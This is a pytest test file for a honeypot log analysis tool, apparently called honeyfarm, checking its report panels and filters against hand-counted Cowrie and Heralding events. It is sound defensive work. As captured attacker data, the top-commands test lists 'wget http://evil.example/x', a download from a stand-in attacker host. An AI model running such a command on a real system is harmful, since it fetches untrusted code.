# SPDX-License-Identifier: MIT
"""Every report panel against a hand-counted dataset (see fixture_events.py), and every filter."""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from fixture_events import (
    COUNTRY,
    EVENTS,
    HASSH_GO,
    HASSH_LIBSSH,
    SHA_UP,
    SHA_X,
    URL_X,
    build_lake,
    connect,
    subset,
    to_line,
)

from honeyfarm.analysis.panels import PANELS, SUMMARY_PANELS, Filters
from honeyfarm.config import Config
from honeyfarm.enrich.geoip import default_asn_db
from honeyfarm.pipeline import ingest

HAVE_ASN = default_asn_db() is not None
needs_asn = pytest.mark.skipif(
    not HAVE_ASN, reason="ASN database missing: .venv/share/honeyfarm/asn is installed by `make`"
)


def T(s: str) -> dt.datetime:
    return dt.datetime.fromisoformat(s)


@pytest.fixture(scope="module")
def full(tmp_path_factory: pytest.TempPathFactory) -> Any:
    con = connect(build_lake(tmp_path_factory.mktemp("full")))
    yield con
    con.close()


def rows(con: Any, name: str, f: Filters | None = None, **kw: Any) -> list[dict[str, Any]]:
    return PANELS[name].func(con, f or Filters(), **kw).to_pylist()


# --------------------------------------------------------------- hand-computed


def test_panel_registry_lists_every_panel_and_summary_panels_exist() -> None:
    assert list(PANELS) == [
        "overview", "top-usernames", "top-passwords", "top-credentials", "top-commands", "top-countries",
        "top-asns", "top-ips", "timeline", "client-versions", "hassh", "downloads", "eventids",
    ]  # fmt: skip
    assert set(SUMMARY_PANELS) <= set(PANELS)
    for p in PANELS.values():
        assert p.doc, f"{p.name} has no docstring"


def test_overview_has_all_row_first_then_sensors_by_events(full: Any) -> None:
    assert rows(full, "overview") == [
        # 6 sessions: aaaa0001 exists on alpha AND beta and counts twice.
        {"sensor": "(all)", "events": 39, "sessions": 6, "unique_ips": 5,
         "first_seen": T("2024-03-01T10:00:00"), "last_seen": T("2024-03-02T22:00:03")},
        {"sensor": "beta", "events": 18, "sessions": 3, "unique_ips": 3,
         "first_seen": T("2024-03-02T09:15:00"), "last_seen": T("2024-03-02T22:00:03")},
        {"sensor": "alpha", "events": 17, "sessions": 2, "unique_ips": 2,
         "first_seen": T("2024-03-01T10:00:00"), "last_seen": T("2024-03-01T11:30:05")},
        {"sensor": "gamma", "events": 4, "sessions": 1, "unique_ips": 1,
         "first_seen": T("2024-03-02T12:00:00"), "last_seen": T("2024-03-02T12:00:03")},
    ]  # fmt: skip


def test_overview_limit_counts_sensors_not_the_all_row(full: Any) -> None:
    got = rows(full, "overview", limit=1)
    assert [r["sensor"] for r in got] == ["(all)", "beta"]


def test_overview_event_without_sensor_is_not_labelled_all(tmp_path: Path) -> None:
    # A record with no `sensor` must not produce a second row called "(all)".
    log = tmp_path / "c.json"
    log.write_text(
        '{"eventid":"cowrie.session.connect","timestamp":"2024-03-01T10:00:00Z","src_ip":"8.8.8.8",'
        '"session":"x1","sensor":"alpha"}\n'
        '{"eventid":"cowrie.session.connect","timestamp":"2024-03-01T10:00:01Z","src_ip":"8.8.8.8","session":"x2"}\n'
    )
    ingest([str(log)], Config(), tmp_path / "lake")
    con = connect(tmp_path / "lake")
    got = rows(con, "overview")
    all_rows = [r for r in got if r["sensor"] == "(all)"]
    assert len(all_rows) == 1, got
    assert all_rows[0]["events"] == 2


def test_top_usernames_counts_logins_and_successes_across_honeypots(full: Any) -> None:
    # root: S1 x3 (1 success), S2, S3 (success), S4, heralding H = 7 attempts, 2 successes.
    assert rows(full, "top-usernames") == [
        {"username": "root", "attempts": 7, "successes": 2},
        {"username": "admin", "attempts": 1, "successes": 0},
        {"username": "guest", "attempts": 1, "successes": 0},
    ]


def test_top_passwords_orders_by_attempts_then_password(full: Any) -> None:
    assert rows(full, "top-passwords") == [
        {"password": "123456", "attempts": 4, "successes": 1},
        {"password": "admin", "attempts": 2, "successes": 0},
        {"password": "guest", "attempts": 1, "successes": 0},
        {"password": "pass1", "attempts": 1, "successes": 0},
        {"password": "toor", "attempts": 1, "successes": 1},
    ]
    assert [r["password"] for r in rows(full, "top-passwords", limit=2)] == ["123456", "admin"]


def test_top_credentials_pairs_username_and_password(full: Any) -> None:
    assert rows(full, "top-credentials") == [
        {"username": "root", "password": "123456", "attempts": 4, "successes": 1},
        {"username": "admin", "password": "admin", "attempts": 1, "successes": 0},
        {"username": "guest", "password": "guest", "attempts": 1, "successes": 0},
        {"username": "root", "password": "admin", "attempts": 1, "successes": 0},
        {"username": "root", "password": "pass1", "attempts": 1, "successes": 0},
        {"username": "root", "password": "toor", "attempts": 1, "successes": 1},
    ]


def test_top_commands_counts_only_command_input_events(full: Any) -> None:
    # "foobar" (command.failed) and the command.success echo of "uname -a" must not count.
    assert rows(full, "top-commands") == [
        {"command": "uname -a", "count": 2, "sessions": 2, "unique_ips": 2},
        {"command": "wget http://evil.example/x", "count": 1, "sessions": 1, "unique_ips": 1},
    ]


def test_top_countries_from_geoip_with_unique_ips(full: Any) -> None:
    assert rows(full, "top-countries") == [
        {"country": "US", "name": "United States", "events": 15, "unique_ips": 1},
        {"country": "RU", "name": "Russia", "events": 14, "unique_ips": 2},
        {"country": "AU", "name": "Australia", "events": 6, "unique_ips": 1},
    ]


@needs_asn
def test_top_asns_from_asn_database(full: Any) -> None:
    got = rows(full, "top-asns")
    assert [(r["asn"], r["events"], r["unique_ips"]) for r in got] == [(15169, 15, 1), (13238, 14, 2), (13335, 6, 1)]
    assert "Google" in got[0]["organisation"]
    assert "YANDEX" in got[1]["organisation"].upper()
    assert "Cloudflare" in got[2]["organisation"]


def test_top_ips_with_location_sessions_and_span(full: Any) -> None:
    got = rows(full, "top-ips")
    assert [(r["ip"], r["events"], r["sessions"], r["country"]) for r in got] == [
        ("8.8.8.8", 15, 2, "US"),  # S1 on alpha + H on gamma
        ("77.88.8.8", 8, 1, "RU"),
        ("1.1.1.1", 6, 1, "AU"),  # tie on 6 events: ordered by ip
        ("5.255.255.5", 6, 1, "RU"),
        ("10.0.0.1", 4, 1, None),  # private: no location
    ]
    assert (got[0]["first_seen"], got[0]["last_seen"]) == (T("2024-03-01T10:00:00"), T("2024-03-02T12:00:03"))
    assert (got[4]["first_seen"], got[4]["last_seen"]) == (T("2024-03-02T22:00:00"), T("2024-03-02T22:00:03"))
    assert got[4]["asn"] is None and got[4]["organisation"] is None
    if HAVE_ASN:
        assert [r["asn"] for r in got] == [15169, 13238, 13335, 13238, None]


def test_timeline_per_hour_and_per_day(full: Any) -> None:
    assert rows(full, "timeline") == [
        {"bucket": T("2024-03-01T10:00"), "events": 11},
        {"bucket": T("2024-03-01T11:00"), "events": 6},
        {"bucket": T("2024-03-02T09:00"), "events": 14},
        {"bucket": T("2024-03-02T12:00"), "events": 4},
        {"bucket": T("2024-03-02T22:00"), "events": 4},
    ]
    assert rows(full, "timeline", bucket="day") == [
        {"bucket": T("2024-03-01T00:00"), "events": 17},
        {"bucket": T("2024-03-02T00:00"), "events": 22},
    ]


def test_timeline_by_country_keeps_top_n_and_folds_the_rest_into_other(full: Any) -> None:
    # Top 2 countries overall: US (15), RU (14). AU and the private address fold into "other".
    assert rows(full, "timeline", limit=2, by_country=True) == [
        {"bucket": T("2024-03-01T10:00"), "country": "US", "events": 11},
        {"bucket": T("2024-03-01T11:00"), "country": "other", "events": 6},
        {"bucket": T("2024-03-02T09:00"), "country": "RU", "events": 14},
        {"bucket": T("2024-03-02T12:00"), "country": "US", "events": 4},
        {"bucket": T("2024-03-02T22:00"), "country": "other", "events": 4},
    ]
    assert rows(full, "timeline", limit=2, bucket="day", by_country=True) == [
        {"bucket": T("2024-03-01T00:00"), "country": "US", "events": 11},
        {"bucket": T("2024-03-01T00:00"), "country": "other", "events": 6},
        {"bucket": T("2024-03-02T00:00"), "country": "RU", "events": 14},
        {"bucket": T("2024-03-02T00:00"), "country": "US", "events": 4},
        {"bucket": T("2024-03-02T00:00"), "country": "other", "events": 4},
    ]
    day3 = rows(full, "timeline", limit=3, bucket="day", by_country=True)
    assert {"bucket": T("2024-03-01T00:00"), "country": "AU", "events": 6} in day3
    assert sum(r["events"] for r in day3) == 39


def test_timeline_rejects_an_unknown_bucket(full: Any) -> None:
    with pytest.raises(ValueError, match="bucket"):
        rows(full, "timeline", bucket="week")


def test_client_versions_counts_sessions(full: Any) -> None:
    assert rows(full, "client-versions") == [
        {"client_version": "SSH-2.0-Go", "sessions": 2, "unique_ips": 2},
        {"client_version": "SSH-2.0-libssh2_1.10.0", "sessions": 1, "unique_ips": 1},
    ]


def test_hassh_takes_client_version_from_the_same_session(full: Any) -> None:
    # The kex events carry no version; it comes from the session's client.version event.
    assert rows(full, "hassh") == [
        {"hassh": HASSH_GO, "sessions": 2, "unique_ips": 2, "client_version": "SSH-2.0-Go"},
        {"hassh": HASSH_LIBSSH, "sessions": 1, "unique_ips": 1, "client_version": "SSH-2.0-libssh2_1.10.0"},
    ]


def test_downloads_lists_url_sha256_span_and_sensors(full: Any) -> None:
    # file_download.failed is not a download.
    assert rows(full, "downloads") == [
        {"url": URL_X, "sha256": SHA_X.lower(), "count": 2, "first_seen": T("2024-03-01T10:00:09"),
         "last_seen": T("2024-03-02T09:15:06"), "unique_ips": 2, "sensors": "alpha,beta"},
        {"url": None, "sha256": SHA_UP, "count": 1, "first_seen": T("2024-03-02T09:45:02"),
         "last_seen": T("2024-03-02T09:45:02"), "unique_ips": 1, "sensors": "beta"},
    ]  # fmt: skip


def test_eventids_counts_and_registered_flag(full: Any) -> None:
    got = {r["eventid"]: (r["events"], r["registered"]) for r in rows(full, "eventids")}
    assert got == {
        "cowrie.login.failed": (6, True),
        "cowrie.session.closed": (5, True),
        "cowrie.session.connect": (5, True),
        "cowrie.client.kex": (3, True),
        "cowrie.client.version": (3, True),
        "cowrie.command.input": (3, True),
        "cowrie.login.success": (2, True),
        "cowrie.session.file_download": (2, True),
        "cowrie.client.size": (1, True),
        "cowrie.command.failed": (1, True),
        "cowrie.command.success": (1, True),
        "cowrie.new.thing": (1, False),
        "cowrie.session.file_download.failed": (1, True),
        "cowrie.session.file_upload": (1, True),
        "heralding.login.failed": (1, True),  # registered since the Heralding parser
        "heralding.session.closed": (1, False),
        "heralding.session.connect": (1, False),
        "heralding.session.info": (1, False),
    }
    order = [r["eventid"] for r in rows(full, "eventids")]
    assert order[:3] == ["cowrie.login.failed", "cowrie.session.closed", "cowrie.session.connect"]
    # The temporary registry table does not leak into the connection.
    assert "_known_eventids" not in {r[0] for r in full.sql("SHOW TABLES").fetchall()}


# ------------------------------------------------------------------- filters

# name -> (Filters, the same selection as a predicate over the fixture's events)
FILTER_CASES: dict[str, tuple[Filters, Callable[[dict[str, Any]], bool]]] = {
    "since-naive": (Filters(since=T("2024-03-02T00:00:00")), lambda e: e["_ts"] >= T("2024-03-02T00:00:00")),
    # 11:30+02:00 is 09:30 UTC: S4, S5, H.
    "since-offset": (
        Filters(since=T("2024-03-02T11:30:00+02:00")),
        lambda e: e["_ts"] >= T("2024-03-02T09:30:00"),
    ),
    # until is exclusive: 10:00:00 .. 10:00:04.
    "until-exclusive": (Filters(until=T("2024-03-01T10:00:05")), lambda e: e["_ts"] < T("2024-03-01T10:00:05")),
    # 00:00-10:00 is 10:00 UTC on the 2nd: the date partition of the 2nd must still be read.
    "until-offset": (
        Filters(until=T("2024-03-02T00:00:00-10:00")),
        lambda e: e["_ts"] < T("2024-03-02T10:00:00"),
    ),
    "since-until-across-midnight": (
        Filters(since=T("2024-03-01T11:00:00"), until=T("2024-03-02T09:46:00")),
        lambda e: T("2024-03-01T11:00:00") <= e["_ts"] < T("2024-03-02T09:46:00"),
    ),
    "sensor-one": (Filters(sensors=("alpha",)), lambda e: e["sensor"] == "alpha"),
    "sensor-two": (Filters(sensors=("beta", "gamma")), lambda e: e["sensor"] in ("beta", "gamma")),
    "country-one": (Filters(countries=("RU",)), lambda e: COUNTRY[e["src_ip"]] == "RU"),
    "country-two": (Filters(countries=("US", "AU")), lambda e: COUNTRY[e["src_ip"]] in ("US", "AU")),
    "honeypot-cowrie": (Filters(honeypots=("cowrie",)), lambda e: e["eventid"].startswith("cowrie.")),
    "honeypot-heralding": (Filters(honeypots=("heralding",)), lambda e: e["eventid"].startswith("heralding.")),
    "combined": (
        Filters(since=T("2024-03-02T09:40:00"), sensors=("beta",), countries=("RU",)),
        lambda e: e["_ts"] >= T("2024-03-02T09:40:00") and e["sensor"] == "beta" and COUNTRY[e["src_ip"]] == "RU",
    ),
}

# panel variants: (panel name, keyword arguments)
VARIANTS: dict[str, tuple[str, dict[str, Any]]] = {
    **{name: (name, {"limit": 1000}) for name in PANELS},
    "timeline-day": ("timeline", {"bucket": "day"}),
    "timeline-by-country": ("timeline", {"limit": 2, "by_country": True}),
    "timeline-day-by-country": ("timeline", {"limit": 1, "bucket": "day", "by_country": True}),
}


@pytest.fixture(scope="module")
def subset_lakes(tmp_path_factory: pytest.TempPathFactory) -> Any:
    """One lake per filter case, holding only the events that case selects."""
    cons: dict[str, Any] = {}

    def get(case: str) -> Any:
        if case not in cons:
            events = subset(FILTER_CASES[case][1])
            cons[case] = connect(build_lake(tmp_path_factory.mktemp(case), events))
        return cons[case]

    yield get
    for con in cons.values():
        con.close()


@pytest.mark.parametrize("case", FILTER_CASES)
def test_filter_case_selects_a_proper_subset(case: str) -> None:
    n = len(subset(FILTER_CASES[case][1]))
    assert 0 < n < len(EVENTS)


@pytest.mark.parametrize("variant", VARIANTS)
@pytest.mark.parametrize("case", FILTER_CASES)
def test_filtered_panel_equals_panel_over_only_the_selected_events(
    full: Any, subset_lakes: Any, case: str, variant: str
) -> None:
    name, kwargs = VARIANTS[variant]
    filters, _ = FILTER_CASES[case]
    filtered = PANELS[name].func(full, filters, **kwargs)
    expected = PANELS[name].func(subset_lakes(case), Filters(), **kwargs)
    assert filtered.schema.names == expected.schema.names
    assert filtered.to_pylist() == expected.to_pylist()


def test_sensor_filter_hand_counted(full: Any) -> None:
    assert rows(full, "overview", Filters(sensors=("alpha",)))[0] == {
        "sensor": "(all)", "events": 17, "sessions": 2, "unique_ips": 2,
        "first_seen": T("2024-03-01T10:00:00"), "last_seen": T("2024-03-01T11:30:05"),
    }  # fmt: skip
    assert rows(full, "top-commands", Filters(sensors=("beta",))) == [
        {"command": "uname -a", "count": 1, "sessions": 1, "unique_ips": 1}
    ]
    assert rows(full, "downloads", Filters(sensors=("alpha",)))[0]["sensors"] == "alpha"


def test_country_filter_hand_counted(full: Any) -> None:
    assert [r["ip"] for r in rows(full, "top-ips", Filters(countries=("RU",)))] == ["77.88.8.8", "5.255.255.5"]
    assert rows(full, "top-usernames", Filters(countries=("US",))) == [
        {"username": "root", "attempts": 4, "successes": 1}  # S1 x3 + heralding
    ]


def test_honeypot_filter_hand_counted(full: Any) -> None:
    assert rows(full, "top-passwords", Filters(honeypots=("heralding",))) == [
        {"password": "pass1", "attempts": 1, "successes": 0}
    ]
    assert rows(full, "overview", Filters(honeypots=("cowrie",)))[0]["events"] == 35
    assert {r["eventid"] for r in rows(full, "eventids", Filters(honeypots=("cowrie",)))} == {
        e["eventid"] for e in EVENTS if e["eventid"].startswith("cowrie.")
    }


def test_time_filters_hand_counted(full: Any) -> None:
    day2 = Filters(since=T("2024-03-02T00:00:00"))
    assert rows(full, "overview", day2)[0]["events"] == 22
    assert rows(full, "downloads", day2)[0]["first_seen"] == T("2024-03-02T09:15:06")
    until = Filters(until=T("2024-03-01T10:00:05"))
    assert rows(full, "overview", until)[0]["events"] == 5
    assert rows(full, "top-usernames", until) == [{"username": "root", "attempts": 2, "successes": 0}]
    aware = Filters(since=T("2024-03-02T11:30:00+02:00"))  # 09:30 UTC
    assert rows(full, "overview", aware)[0]["events"] == 14
    assert rows(full, "overview", Filters(until=T("2024-03-02T00:00:00-10:00")))[0]["events"] == 31


def test_hassh_filter_by_time_cuts_sessions(full: Any) -> None:
    # Only day 2: S3 remains with the Go fingerprint.
    assert rows(full, "hassh", Filters(since=T("2024-03-02T00:00:00"))) == [
        {"hassh": HASSH_GO, "sessions": 1, "unique_ips": 1, "client_version": "SSH-2.0-Go"}
    ]


# ----------------------------------------------------------------- empty lakes


def _assert_empty(con: Any, f: Filters) -> None:
    for variant, (name, kwargs) in VARIANTS.items():
        table = PANELS[name].func(con, f, **kwargs)
        if name == "overview":
            # GROUPING SETS (()) yields the totals row even over no input: zero events, no times.
            assert table.to_pylist() == [
                {"sensor": "(all)", "events": 0, "sessions": 0, "unique_ips": 0, "first_seen": None, "last_seen": None}
            ], variant
        else:
            assert table.num_rows == 0, (variant, table.to_pylist())
        assert table.num_columns > 0


def test_empty_lake_gives_empty_panels_not_errors(tmp_path: Path) -> None:
    con = connect(tmp_path / "no-lake-yet")
    _assert_empty(con, Filters())
    _assert_empty(
        con, Filters(since=T("2024-01-01T00:00:00"), sensors=("x",), countries=("US",), honeypots=("cowrie",))
    )


def test_empty_panels_have_the_same_columns_as_full_ones(full: Any, tmp_path: Path) -> None:
    empty = connect(tmp_path / "no-lake-yet")
    for variant, (name, kwargs) in VARIANTS.items():
        a = PANELS[name].func(full, Filters(), **kwargs)
        b = PANELS[name].func(empty, Filters(), **kwargs)
        assert a.schema.names == b.schema.names, variant


def test_filter_matching_nothing_gives_empty_panels(full: Any) -> None:
    _assert_empty(full, Filters(sensors=("no-such-sensor",)))
    _assert_empty(full, Filters(since=T("2030-01-01T00:00:00")))


def test_lake_of_only_rejected_records_gives_empty_panels(tmp_path: Path) -> None:
    log = tmp_path / "bad.json"
    good = to_line(EVENTS[0])
    log.write_text(good.replace('"timestamp": "2024-03-01T10:00:00.000000Z"', '"timestamp": "not a time"') + "\n")
    result = ingest([str(log)], Config(), tmp_path / "lake")
    assert (result.ingested, result.dead_letter) == (0, 1)
    _assert_empty(connect(tmp_path / "lake"), Filters())
